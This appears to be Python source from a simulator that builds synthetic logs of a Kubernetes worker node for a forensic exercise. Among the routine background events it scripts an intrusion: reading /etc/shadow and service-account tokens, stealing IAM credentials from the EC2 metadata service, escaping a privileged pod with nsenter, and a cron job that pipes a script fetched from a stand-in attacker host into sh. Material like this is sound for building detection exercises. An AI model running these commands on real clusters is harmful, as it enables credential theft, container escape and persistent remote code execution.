"""The worker node `node-2`: kubelet and runtime at work, and what the intruder's pods do there."""

import hashlib
from collections.abc import Sequence
from functools import partial

from demo.cast import ATTACKER, LEDGER, NODE_2, ROGUE, Pod
from demo.clock import MINUTE, SECOND, Dice, at, iso_micro
from demo.linux_host import LinuxHost, Login
from demo.linux_login import cron_job

AUDIT_FROM, AUDIT_TO = "19:40", "20:40"
"""Of auditd on the node, the hour that was saved."""
_RUNC = "/usr/sbin/runc"
_TASKS = "/run/containerd/io.containerd.runtime.v2.task/k8s.io"
_TEMPORARY = "/tmp/"  # noqa: S108 -- runc's, in a log
_IMDS = "http://169.254.169.254/latest"
_PROBES: tuple[tuple[str, list[str], str], ...] = (
    ("a1d94f60c27b", ["/bin/grpc_health_probe", "-addr=:50051"], "/bin/grpc_health_probe"),
    ("77c0e5b9d813", ["redis-cli", "ping"], "/usr/local/bin/redis-cli"),
    ("8f31c6d20b7e", ["/app/healthcheck", "--port", "8080"], "/app/healthcheck"),
)


def build_node(dice: Dice) -> LinuxHost:
    """Return node-2 after the evening."""
    host = LinuxHost(
        NODE_2.short,
        dice,
        names={0: "root", 1000: "ubuntu"},
        enriched=True,
        pid=402117,
        session=88,
        serial=911408,
    )
    _daemons(host)
    _probes(host)
    _pod_shell(host)
    _rogue_pod(host)
    host.run()
    start, end = at(AUDIT_FROM), at(AUDIT_TO)
    host.audit = [event for event in host.audit if start <= event[0] < end]
    return host


def _daemons(host: LinuxHost) -> None:
    dice = host.dice
    for time in dice.every(at("17:00"), at("22:00"), 22 * SECOND, 20 * SECOND):
        host.plan(time, partial(_chatter, host))
    hourly = "cd / && run-parts --report /etc/cron.hourly"
    runs = [(["run-parts", "--report", "/etc/cron.hourly"], "/usr/bin/run-parts")]
    for time in range(at("17:17:01"), at("22:00"), 60 * MINUTE):
        host.plan(time, partial(cron_job, host, hourly, runs))
    prune = "/usr/local/bin/prune-images --keep 72h"
    runs = [(prune.split(), "/usr/local/bin/prune-images")]
    for time in range(at("17:00:01"), at("22:00"), 10 * MINUTE):
        host.plan(time, partial(cron_job, host, prune, runs))
    for time in dice.every(at("19:30"), at("22:00"), 4 * MINUTE, MINUTE):
        host.plan(time, partial(_proxy_sync, host))


def _chatter(host: LinuxHost) -> None:
    dice = host.dice
    pod = dice.choice(("web-5d8c7f9b66-q4zlm", "search-0", "aws-node-h6tqk"))
    stamp = iso_micro(host.now_us - dice.between(300, 4000))
    klog = f"I1112 {stamp[11:-1]}    2290"
    ready = f'"Probe succeeded" probeType="Readiness" pod="staging/{pod}"'
    sandbox = f'msg="StopPodSandbox for \\"{dice.hexes(64)}\\" returns successfully"'
    mount = f"run-containerd-runc-k8s.io-{dice.hexes(64)}-runc.{dice.alnum(6)}"
    uptime = f"{host.now_us // SECOND - 1793900000}.{stamp[20:-1]}"
    lines = (
        ("containerd", 1877, f'time="{stamp}" level=info {sandbox}'),
        ("kubelet", 2290, f"{klog} prober.go:107] {ready}"),
        ("kubelet", 2290, f'{klog} kubelet_volumes.go:163] "Cleaned up orphaned pod volumes dir"'),
        ("systemd", 1, f"{mount}.mount: Deactivated successfully."),
        ("chronyd", 811, f"Selected source 169.254.169.123 ({dice.alnum(8)})"),
        ("kernel", 0, f"[{uptime}] eni{dice.hexes(11)}: renamed from eth0"),
        ("amazon-ssm-agent", 1204, "INFO [HealthCheck] HealthCheck reporting agent health."),
        ("systemd-networkd", 640, f"eni{dice.hexes(11)}: Gained IPv6LL"),
    )
    program, pid, message = dice.choice(lines)
    host.log(program, pid, message, auth=False)


def _proxy_sync(host: LinuxHost) -> None:
    proxy = Login(shell_pid=3310)
    for argv in (
        ["iptables-save", "-t", "nat"],
        ["iptables-restore", "-w", "5", "--noflush", "--counters"],
    ):
        host.exec(proxy, argv, "/usr/sbin/xtables-nft-multi")
    if host.dice.random() < 0.5:
        host.connect(
            Login(shell_pid=1),
            ["/usr/bin/kubelet", "--config", "/etc/kubernetes/kubelet/config.json"],
            "/usr/bin/kubelet",
            2290,
            "10.20.0.201",
            443,
        )
    if host.dice.random() < 0.25:
        host.connect(
            Login(shell_pid=1),
            ["/snap/amazon-ssm-agent/current/amazon-ssm-agent"],
            "/snap/amazon-ssm-agent/current/amazon-ssm-agent",
            1204,
            "169.254.169.254",
            80,
        )


def _probes(host: LinuxHost) -> None:
    for time in host.dice.every(at("19:30"), at("20:40"), 50 * SECOND, 40 * SECOND):
        container, argv, exe = host.dice.choice(_PROBES)
        host.plan(time, partial(_runc_exec, host, container, argv, exe, tty="(none)"))


def _runc_exec(
    host: LinuxHost, container: str, argv: Sequence[str], exe: str, *, tty: str
) -> Login:
    """Containerd starts a program in a running container, as for a probe or `kubectl exec`."""
    whole = container + hashlib.sha256(container.encode()).hexdigest()[:52]
    shim = Login(shell_pid=3000 + int(container[:3], 16), cwd=f"{_TASKS}/{whole}")
    console = ["--console-socket", f"{_TEMPORARY}pty{host.dice.randint(10**8, 10**9)}/pty.sock"]
    runc = host.exec(
        shim,
        [
            "runc",
            "--root",
            "/run/containerd/runc/k8s.io",
            "--log",
            f"{_TASKS}/{whole}/log.json",
            "--log-format",
            "json",
            "exec",
            "--process",
            f"{_TEMPORARY}runc-process{host.dice.randint(10**8, 10**9)}",
            *(console if tty != "(none)" else []),
            "--detach",
            "--pid-file",
            f"{_TASKS}/{whole}/{host.dice.hexes(64)}.pid",
            whole,
        ],
        _RUNC,
    )
    inside = Login(tty=tty, shell_pid=runc, cwd="/")
    host.exec(inside, ["runc", "init"], _RUNC)
    inside.shell_pid = host.exec(inside, argv, exe, ppid=shim.shell_pid)
    return inside


def _pod_shell(host: LinuxHost) -> None:
    """`kubectl exec -it` into the ledger, and what is typed there."""
    web_identity = "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"
    typed = [
        ("19:47:26", ["id"], "/usr/bin/id"),
        ("19:47:31", ["cat", "/etc/shadow"], "/usr/bin/cat"),
        ("19:47:48", ["env"], "/usr/bin/env"),
        ("19:48:09", ["cat", web_identity], "/usr/bin/cat"),
        ("19:48:40", ["curl", "-s", "-m", "3", f"{_IMDS}/meta-data/"], "/usr/bin/curl"),
    ]
    host.plan(at("19:47:12.730"), partial(_session, host, LEDGER, ["sh"], "/usr/bin/dash", typed))


def _rogue_pod(host: LinuxHost) -> None:
    """The privileged pod with the node's file system, and the way out of it."""
    header = "X-aws-ec2-metadata-token-ttl-seconds: 21600"
    role = f"{_IMDS}/meta-data/iam/security-credentials/harbor-prod-node"
    dropper = f"curl -fsS http://{ATTACKER}:8080/n.sh | sh"
    typed = [
        (
            "20:08:31",
            ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "sh"],
            "/usr/bin/nsenter",
        ),
        ("20:08:31.250", ["sh"], "/usr/bin/dash"),
        ("20:08:52", ["cat", "/etc/shadow"], "/usr/bin/cat"),
        ("20:09:14", ["find", "/var/lib/kubelet/pods", "-name", "token"], "/usr/bin/find"),
        ("20:10:03", ["curl", "-sX", "PUT", "-H", header, f"{_IMDS}/api/token"], "/usr/bin/curl"),
        (
            "20:10:20",
            ["curl", "-s", "-H", "X-aws-ec2-metadata-token: AQAEAEXAMPLETOKEN==", role],
            "/usr/bin/curl",
        ),
        ("20:12:44", ["tee", "/etc/cron.d/node-health"], "/usr/bin/tee"),
    ]
    host.plan(
        at("20:08:12.411"), partial(_session, host, ROGUE, ["/bin/sh"], "/bin/busybox", typed)
    )
    reload = "(*system*node-health) RELOAD (/etc/cron.d/node-health)"
    host.plan(at("20:13:01"), partial(host.log, "cron", 870, reload, auth=False))
    runs = [
        (["curl", "-fsS", f"http://{ATTACKER}:8080/n.sh"], "/usr/bin/curl"),
        (["sh"], "/usr/bin/dash"),
    ]
    for time in range(at("20:20:01"), at("22:00"), 20 * MINUTE):
        host.plan(time, partial(cron_job, host, dropper, runs))


def _session(
    host: LinuxHost,
    pod: Pod,
    argv: Sequence[str],
    exe: str,
    typed: Sequence[tuple[str, list[str], str]],
) -> None:
    inside = _runc_exec(host, pod.container_id, argv, exe, tty="pts0")
    for clock, command, program in typed:
        host.plan(at(clock), partial(_typed, host, inside, command, program))


def _typed(host: LinuxHost, inside: Login, command: Sequence[str], program: str) -> None:
    pid = host.exec(inside, command, program)
    if program.endswith("curl"):
        host.pause(2, 5)
        host.connect(inside, command, program, pid, "169.254.169.254", 80)
    if command[0] == "tee":
        host.write_file(inside, command, program, pid, command[1], "cron", created=True)
